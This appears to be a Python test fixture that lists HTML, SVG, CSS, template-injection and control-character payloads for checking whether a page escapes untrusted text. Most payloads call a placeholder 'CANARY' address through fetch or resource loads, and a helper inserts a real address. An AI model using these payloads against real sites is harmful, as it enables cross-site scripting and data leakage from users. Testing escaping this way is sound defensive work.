"""Hostile texts: each would act in a page that does not escape it; ``CANARY`` is an address."""

from __future__ import annotations

HTML_PAYLOADS = (
    "<script>document.title='pwned';fetch('CANARY/script')</script>",
    "<img src=x onerror=\"document.title='pwned';new Image().src='CANARY/onerror'\">",
    "<img src='CANARY/img'>",
    '"><img src=CANARY/attribute-break>',
    "'><img src=CANARY/attribute-break-single>",
    "<svg onload=\"document.title='pwned';fetch('CANARY/svg')\"></svg>",
    "<svg><image href='CANARY/svg-image'/></svg>",
    "<svg><script>fetch('CANARY/svg-script')</script></svg>",
    "</text></g></svg><img src=CANARY/svg-close>",
    "</style><img src=CANARY/style-close><style>",
    "<style>@import 'CANARY/import';body{background:url(CANARY/css)}</style>",
    "<style>*{display:none}</style>",
    "<div style=\"background:url('CANARY/inline-style')\">x</div>",
    "<link rel=stylesheet href=CANARY/link>",
    "<link rel=prefetch href=CANARY/prefetch>",
    "<meta http-equiv=refresh content='0;url=CANARY/refresh'>",
    "<base href='CANARY/'>",
    "<iframe src='CANARY/iframe'></iframe>",
    "<iframe srcdoc=\"<img src='CANARY/srcdoc'>\"></iframe>",
    "<object data='CANARY/object'></object><embed src='CANARY/embed'>",
    "<video src='CANARY/video' autoplay></video><audio src='CANARY/audio' autoplay></audio>",
    "<details open ontoggle=\"document.title='pwned';fetch('CANARY/toggle')\">x</details>",
    "<input autofocus onfocus=\"fetch('CANARY/focus')\">",
    "<body onload=\"fetch('CANARY/body')\">",
    "<a href=\"javascript:fetch('CANARY/link-script')\">javascript:alert(1)</a>",
    "<iframe src=\"javascript:parent.document.title='pwned'\"></iframe>",
    "<iframe src=\"data:text/html,<script>fetch('CANARY/data')</script>\"></iframe>",
    "</title><script>document.title='pwned'</script>",
    "</textarea></pre></dd></td></table><script>document.title='pwned'</script>",
    "<!-- --><script>document.title='pwned'</script>",
    "]]><script>document.title='pwned'</script>",
    "&lt;script&gt;fetch('CANARY/entity')&lt;/script&gt;",
    "{{ 7 * 7 }} {% for x in (1,2) %}looped{% endfor %} {{ ''.__class__.__mro__ }}",
    "$\\frac{1}{0}$ $\\undefined",
    "\x00<\x00script>\x1b]0;pwned\x07\x1b[2J\u202egpj.exe\u2066",
)


def with_canary(payload: str, address: str) -> str:
    """Return a payload that calls ``address``."""
    return payload.replace("CANARY", address)
